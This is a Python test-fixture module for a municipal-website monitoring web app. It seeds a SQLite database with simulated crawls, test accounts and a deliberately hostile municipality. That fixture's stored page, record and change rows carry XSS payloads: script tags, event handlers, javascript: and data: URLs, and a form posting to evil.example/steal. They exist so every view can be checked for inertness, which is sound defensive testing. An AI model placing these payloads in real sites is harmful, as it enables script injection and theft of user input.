"""Test data for the web app's tests: a real SQLite file filled through the storage layer, accounts, a login.

Two real crawls of a simulated municipality (a contact replaced between them), a failing one, and a
hostile municipality whose stored page, record and changes carry script, handler, javascript: and data:
payloads, so every view can be checked for inertness.
"""

from __future__ import annotations

import re
import zlib
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

from crawler.fetch import FetchResult
from crawler.record import PageRecord
from crawler.registry import SiteEntry
from crawler.web.auth import add_user
from simweb.municipal import Noise, Person, content, load_seed, render_bytes
from simweb.municipal.markup import SiteProfile
from storage.db import make_engine, session_factory, transaction
from storage.migrate import upgrade
from storage.models import ChangeRow, Page, ProposalRow, Snapshot
from storage.repository import begin_run, finish_run, sync_sites

from support import store_fetch

PASSWORD = "rätt häst batteri häftklammer"
ROLES = ("admin", "analyst", "viewer")
TROLLHATTAN_URL = "http://127.0.0.9:8000/kommun-och-politik/internationellt-arbete/"
HOSTILE_URL = "http://127.0.0.10:8000/internationellt/"
PROPOSED_URL = "http://127.0.0.12:8000/kommun/internationellt-arbete/"
XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
JS = "javascript:alert(1)"
DATA = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="

SITES = [
    SiteEntry(
        id="trollhattan",
        name="Trollhättans stad",
        code="1488",
        county="Västra Götalands län",
        home="http://127.0.0.9:8000/",
        url=TROLLHATTAN_URL,
    ),
    SiteEntry(id="hostile", name=f"Ond kommun {XSS}", code="0999", county="Skåne län", home=JS, url=HOSTILE_URL),
    SiteEntry(
        id="hylte", name="Hylte kommun", code="1315", county="Hallands län", home=None, url="http://127.0.0.11:8000/i"
    ),
    SiteEntry(
        id="amal", name="Åmåls kommun", code="1492", county="Västra Götalands län", home="http://127.0.0.12:8000/"
    ),
]

HOSTILE_HTML = f"""<!doctype html><html><head><title>{XSS}</title>
<script>alert('head')</script><meta http-equiv="refresh" content="0;url={JS}">
<link rel="stylesheet" href="http://evil.example/x.css"></head>
<body onload="alert('body')"><main>
<h1>Internationellt arbete &lt;script&gt;alert(1)&lt;/script&gt;</h1>
<p>Vi arbetar med EU-projekt. &lt;img src=x onerror=alert(1)&gt; <a href="{JS}">klicka</a>
<a href="{DATA}">data</a> <img src="http://evil.example/pixel.gif" onerror="alert(2)">
<iframe src="{DATA}"></iframe><object data="http://evil.example/x.swf"></object>
<svg onload="alert(3)"><script>alert(4)</script></svg>
<form action="http://evil.example/steal"><input name="q"><button formaction="{JS}">Skicka</button></form></p>
<p>Kontakt: Eva &lt;b onmouseover=alert(5)&gt; Ek, eva.ek@example.se, 0520-49 70 00</p>
<p><a href="http://127.0.0.10:8000/strategi.pdf" onclick="alert(6)">Strategi {XSS}</a></p>
<p style="background:url(http://evil.example/bg.png)">Senast granskad 2026-11-01</p>
</main></body></html>"""

HOSTILE_RECORD = PageRecord.from_json(
    {
        "url": HOSTILE_URL,
        "title": f"Rubrik {XSS}",
        "blocks": [{"kind": "p", "text": f"Text {XSS} {JS}"}],
        "review_date": "2026-11-01",
        "reviewer": XSS,
        "contacts": [{"name": f"Eva {XSS}", "role": JS, "email": "eva@example.se", "phone": "+46520497000"}],
        "documents": [{"url": JS, "title": f"Strategi {XSS}"}, {"url": DATA, "title": "data"}],
    }
)


@dataclass(frozen=True)
class Stored:
    path: Path
    db_url: str
    hostile_versions: tuple[int, int]
    trollhattan_versions: tuple[int, int]
    hostile_change: int
    runs: tuple[int, ...]


def _page(page_content, night: int) -> bytes:
    profile = SiteProfile(
        id="trollhattan", name="Trollhättans stad", short="Trollhättan", domain="trollhattan.se", cms="sitevision"
    )
    body, _ = render_bytes(page_content, profile, Noise(), night, request_no=night)
    return body


def _fetch(site_id: str, url: str, body: bytes, status: int = 200, at: datetime | None = None) -> FetchResult:
    return FetchResult(
        site_id=site_id,
        url=url,
        fetched_at=at or datetime.now(UTC),
        body=body,
        content_type="text/html; charset=utf-8",
        status=status,
        final_url=url,
        etag=None,
        last_modified=None,
    )


def build_database(directory: Path, extra_changes: int = 0, db_url: str | None = None) -> Stored:
    """Two crawl runs and the hostile municipality, stored as the crawl stores them; the three accounts.

    In an SQLite file in ``directory`` unless ``db_url`` names another (empty) database.
    """
    path = directory / "kommunvakt.db"
    db_url = db_url or f"sqlite:///{path}"
    engine = make_engine(db_url)
    upgrade(engine)
    factory = session_factory(engine)
    sync_sites(factory, SITES)
    seed = load_seed("trollhattan").content
    replaced = content.replace_contact(
        seed, 0, Person("Sara Lindberg", ("Internationell samordnare",), "sara.lindberg@trollhattan.se", "0520-497000")
    )
    first = begin_run(factory)
    store_fetch(factory, first, SITES[0], _fetch("trollhattan", TROLLHATTAN_URL, _page(seed, 1)))
    store_fetch(factory, first, SITES[1], _fetch("hostile", HOSTILE_URL, HOSTILE_HTML.encode()))
    store_fetch(factory, first, SITES[2], _fetch("hylte", SITES[2].url or "", b"", status=503))
    finish_run(factory, first, "completed", not_located=1)
    second = begin_run(factory)
    store_fetch(factory, second, SITES[0], _fetch("trollhattan", TROLLHATTAN_URL, _page(replaced, 2)))
    store_fetch(
        factory,
        second,
        SITES[1],
        _fetch("hostile", HOSTILE_URL, HOSTILE_HTML.replace("EU-projekt", "EU-projekt och vänorter").encode()),
    )
    store_fetch(factory, second, SITES[2], _fetch("hylte", SITES[2].url or "", b"", status=503))
    finish_run(factory, second, "completed", not_located=1)
    with transaction(factory) as session:
        # A version whose record itself is hostile (what a cleverer page could make the extractor keep).
        page = session.query(Page).filter_by(site_id="hostile").one()
        hostile = Snapshot(
            page_id=page.id,
            run_id=second,
            taken_at=datetime.now(UTC),
            url=HOSTILE_URL,
            content_hash=HOSTILE_RECORD.content_hash(),
            html_z=zlib.compress(HOSTILE_HTML.encode()),
            text=HOSTILE_RECORD.normalised_text(),
            record=HOSTILE_RECORD.to_json(),
        )
        session.add(hostile)
        session.flush()
        previous = page.last_snapshot_id
        change = ChangeRow(
            run_id=second, site_id="hostile", page_id=page.id, url=JS, kind="contact_added", old=None,
            new=HOSTILE_RECORD.contacts[0].as_json(), detected_at=datetime.now(UTC),
            old_snapshot_id=previous, new_snapshot_id=hostile.id,
        )  # fmt: skip
        session.add(change)
        session.add(
            ChangeRow(
                run_id=second, site_id="hostile", page_id=page.id, url=HOSTILE_URL, kind="document_added",
                old=None, new=HOSTILE_RECORD.documents[0].as_json(), detected_at=datetime.now(UTC),
                old_snapshot_id=previous, new_snapshot_id=hostile.id,
            )
        )  # fmt: skip
        hylte = session.query(Page).filter_by(site_id="hylte").one()
        base = datetime(2026, 1, 1, 3, 0, tzinfo=UTC)
        for number in range(extra_changes):
            session.add(
                ChangeRow(
                    run_id=first, site_id="hylte", page_id=hylte.id, url=SITES[2].url or "", kind="review_date_changed",
                    old="2025-01-01", new=f"2026-01-{number % 28 + 1:02d}", detected_at=base + timedelta(hours=number),
                )
            )  # fmt: skip
        session.add(
            ProposalRow(
                site_id="amal", url=PROPOSED_URL, score=0.91, confident=True, reasons=["title", "eu-words"],
                candidates=[], created_at=datetime.now(UTC), status="proposed",
            )
        )  # fmt: skip
        for role in ROLES:
            add_user(session, f"{role}@example.se", role, PASSWORD)
        session.flush()
        hostile_change = change.id
        hostile_ids = (previous or 0, hostile.id)
    with factory() as session:
        troll = session.query(Page).filter_by(site_id="trollhattan").one()
        versions = [s.id for s in session.query(Snapshot).filter_by(page_id=troll.id).order_by(Snapshot.id)]
    engine.dispose()
    return Stored(
        path=path,
        db_url=db_url,
        hostile_versions=hostile_ids,
        trollhattan_versions=(versions[0], versions[-1]),
        hostile_change=hostile_change,
        runs=(first, second),
    )


def write_sites_file(path: Path) -> Path:
    """SITES as a sites file (the hostile entry without its javascript: home, which the file format refuses)."""
    from simweb.municipal.builders import dump_sites

    entries = []
    for site in SITES:
        entry = {"id": site.id, "name": site.name, "code": site.code, "county": site.county}
        entry |= {"home": site.home} if site.home and site.home.startswith("http") else {}
        entry |= {"url": site.url} if site.url else {}
        entries.append(entry)
    return dump_sites(path, entries, "web app tests")


CSRF_RE = re.compile(r'name="csrf" value="([^"]+)"')


def csrf_of(html: str) -> str:
    match = CSRF_RE.search(html)
    assert match, "no CSRF token in the form"
    return match.group(1)
